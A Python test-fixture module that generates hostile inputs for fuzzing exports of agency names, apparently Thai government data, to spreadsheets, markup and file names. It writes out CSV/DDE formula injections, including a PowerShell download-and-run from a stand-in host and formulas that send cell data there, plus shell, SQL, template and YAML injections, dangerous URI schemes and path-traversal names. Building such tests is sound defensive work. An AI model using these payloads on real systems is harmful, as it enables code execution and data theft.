"""List texts of an agency that try to become something other than text."""

from __future__ import annotations

from itertools import chain, product
from random import Random

COUNT = 200
NAMES = 40

# What stands before the sign decides whether a careless filter sees it.
LEADS = ("", " ", "\t", "\r", "\n", "\ufeff", "\u200b", "\u00a0", "\u3000", "'", '"')
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BODIES = (
    "1+1",
    "cmd|'/c calc'!A0",
    "SUM(A1:A9)*2",
    'HYPERLINK("http://203.0.113.9/?"&A1,"กดที่นี่")',
    'WEBSERVICE("http://203.0.113.9/"&B5)',
)

FORMULAS = (
    "=",
    "==1",
    "=A1",
    "{=1+1}",
    "=1+1\r\n=2+2",
    "=cmd|' /C powershell IEX(wget 203.0.113.9/x)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    'DDE("cmd","/c calc","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://203.0.113.9/",A1),"//a")',
    '=IMAGE("https://203.0.113.9/x.png")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://203.0.113.9","x",0,0)',
    '=EXEC("calc.exe")',
    '=INDIRECT("\'"&A1&"\'!B5")',
    "='\\\\203.0.113.9\\share\\[x.xlsx]a'!A1",
    "=_xlfn.STOCKHISTORY(1)",
    "=#REF!",
    "#N/A",
    "#DIV/0!",
    "-",
    "-5",
    "+66812345678",
    "1E400",
    "-1e-400",
    "00123",
    "TRUE",
    "2568-01-01",
    "1/2",
    "NaN",
    "INF",
    "๑๒.๕",
    "12,34",
)
LINKS = (
    "http://example.go.th/a b",
    "https://example.go.th@203.0.113.9/",
    "http://ехаmple.go.th/",
    "https://example.go.th/" + "ก" * 2_100,
    "HTTP://203.0.113.9:22/",
    "http://[::ffff:127.0.0.1]/",
    "http://0x7f.1/",
    "//203.0.113.9/x",
    "http:\\\\203.0.113.9\\x",
    "https://",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "file:///C:/Windows/System32/calc.exe",
    "file:///etc/passwd",
    "file://203.0.113.9/share/x.xlsx",
    "\\\\203.0.113.9\\share\\x.xlsx",
    "\\\\203.0.113.9@80\\share\\x.xlsx",
    "\\\\?\\C:\\x",
    "C:\\Windows\\System32\\calc.exe",
    "ms-excel:ofe|u|http://203.0.113.9/x.xlsm",
    "ms-word:nft|u|http://203.0.113.9/x.dotm",
    "search-ms:query=x&crumb=location:\\\\203.0.113.9\\x",
    "ms-msdt:/id PCWDiagnostic",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "external:\\\\203.0.113.9\\x.xlsx#A1",
    "external:c:\\x.xlsx",
    "internal:'IIT'!A1",
    "internal:x",
    "mailto:a@example.go.th?attach=C:\\x",
    "ftp://203.0.113.9/x",
    "tel:191",
    "#A1",
    "www.example.go.th",
)
CODES = (
    "&G",
    "&F &A &P &N &D",
    '&"Courier New,Bold"&72&KFF0000x',
    "&C&Z&F",
    "&&",
    "«MERGEFIELD x»",
    '{ INCLUDETEXT "\\\\\\\\203.0.113.9\\\\x" }',
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{__class__.__mro__}",
    "{0.__init__.__globals__}",
    "{:>9999999}",
    "%s%n%d",
    "%(x)s",
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "; rm -rf x #",
    "| calc",
    "'; DROP TABLE agency; --",
    "%COMSPEC%",
    "!ls",
    "[red]x[/red]",
    "[/]",
    "[link=http://203.0.113.9]x[/link]",
    "[bold",
    "\\[x]",
    ":warning:",
    "**x** _y_ `z`",
    "[x](javascript:alert(1))",
    "![x](http://203.0.113.9/x.png)",
    "| a | b |",
    "---\nx: 1",
    "!!python/object/apply:os.system ['x']",
)
MARKUP = (
    "<v>1</v>",
    "</t></si><si><t>x",
    "]]>",
    "<![CDATA[x]]>",
    "&amp;",
    "&amp;amp;",
    "&lt;b&gt;",
    "&#0;",
    "&x;",
    "<!DOCTYPE x>",
    "<?xml version='1.0'?>",
    "<!-- x -->",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "_x0041_",
    "_x005F_x0041_",
    "_xD800_",
    "_x0000_",
    "_x000D_",
    "_xFFFF_",
    "_x00",
    '"',
    "'",
    '"""',
    'a"b,c;d\te',
    "a\rb\nc\r\nd\x0be\x0cf\x85g\u2028h",
)
LETTERS = (
    "a\0b",
    "\0",
    "a\x01\x02\x08\x0e\x1f\x7fb",
    "a\x80\x9b\x9fb",
    "\x1b[31mแดง\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]8;;http://203.0.113.9\x07x\x1b]8;;\x07",
    "\x1b]0;x\x07",
    "\x07\x07\x07",
    "a\b\b\bb",
    "100\r999",
    "\u202etxt.exe",
    "\u2066x\u2069\u202a",
    "ไม่มี\u200bภารกิจ",
    "\u200d\u200c\u2060\ufeff",
    "\ud800",
    "a\udc00b",
    "\udfff\ud800",
    "\ud83d",
    "\ufffe\uffff",
    "\U0010ffff",
    "ก\u0e48\u0e49\u0e4a\u0e4b\u0e34\u0e35\u0e38" * 8,
    "\u0e48ไม่มีฐาน",
    "น\u0e4d\u0e32ใจ",
    "น\u0e33ใจ",
    "Z\u0335\u0321\u035e" * 40,
    "e\u0301 é",
    "👩‍👩‍👧‍👦🏴‍☠️🇹🇭",
    "مرحبا שלום",
    "ﷺ" * 20,
    "İıſK",
    "   ",
    "",
    "\u3000",
    "ก" * 33_000,
    "x" * 70_000,
    "=" + "1+" * 20_000 + "1",
    "👍" * 16_400,
)
PATHS = (
    "../../x",
    "..\\..\\x",
    "/etc/passwd",
    "C:x",
    "CON",
    "nul.xlsx",
    "aux.txt",
    "COM1",
    "LPT\u00b9",
    "CONIN$",
    "x.",
    "x ",
    "...",
    "~$form.xlsx",
    "-rf",
    'a/b\\c:d*e?f"g<h>i|j',
    "x:stream",
    "%2e%2e%2f",
    "History",
    "desktop.ini",
)


def injections(seed: int, count: int = COUNT) -> tuple[str, ...]:
    """``count`` distinct texts: all the written ones, and formulas of lead, sign and body drawn for the rest."""
    written = dict.fromkeys(chain(FORMULAS, LINKS, CODES, MARKUP, LETTERS, PATHS))
    made = [lead + sign + body for lead, sign, body in product(LEADS, SIGNS, BODIES)]
    # The plain signs with the plain body are in every draw, for they are what an export meets first.
    sure = [sign + "1+1" for sign in SIGNS[:4]]
    rest = [text for text in made if text not in written and text not in sure]
    drawn = Random(f"injections {seed}").sample(rest, count - len(written) - len(sure))
    return (*written, *sure, *drawn)


def file_names(seed: int) -> tuple[str, ...]:
    """Forty names of agencies that are dangerous in the name of a file; some differ only to a person."""
    rng = Random(f"file names {seed}")
    length = rng.randrange(200, 400)
    stem = rng.choice(("เทศบาลตำบลบางปู", "อบต.แพรกษา", "จังหวัดสมุทรปราการ"))
    letter = rng.choice("abcXYZ")
    names = (
        *PATHS,
        stem,
        stem + " ",
        stem + ".",
        stem + "\u200b",
        stem.replace("ำ", "\u0e4d\u0e32") + "\u0e49",
        "\u202e" + stem,
        stem + "\0.exe",
        stem + "\n",
        stem * (length // len(stem)),
        letter * length,
        f"{letter.upper()}gency",
        f"{letter.lower()}gency",
        f"../{stem}",
        f"/tmp/{stem}",
        f"C:\\{stem}",
        f"\\\\203.0.113.9\\{stem}",
        f"{stem}/../../{stem}",
        "",
        "\ud800" + stem,
        "$(touch x);`x`",
    )
    assert len(set(names)) == NAMES
    return names


INJECTIONS: tuple[str, ...] = injections(2568)
